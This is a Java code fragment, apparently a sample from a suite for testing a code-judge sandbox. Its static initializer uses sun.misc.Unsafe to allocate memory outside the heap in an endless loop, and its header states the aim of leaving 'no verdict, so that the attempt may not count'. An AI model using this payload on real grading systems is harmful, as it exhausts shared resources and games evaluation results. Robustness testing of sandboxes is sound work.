// ---
// tries: Takes memory outside of the heap until there is no more.
// place: before
// deserves: nothing
// gain: no verdict, so that the attempt may not count
// helps: memory-limit
// ---
  static final java.util.List<Object> ATTACK_BUFFERS = new java.util.ArrayList<>();

  static {
    try {
      var field = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
      field.setAccessible(true);
      var unsafe = (sun.misc.Unsafe) field.get(null);
      for (;;) unsafe.setMemory(unsafe.allocateMemory(1 << 24), 1 << 24, (byte) 1);
    } catch (ReflectiveOperationException absent) {
      Attack.did("has no Unsafe");
    }
  }
@BODY@
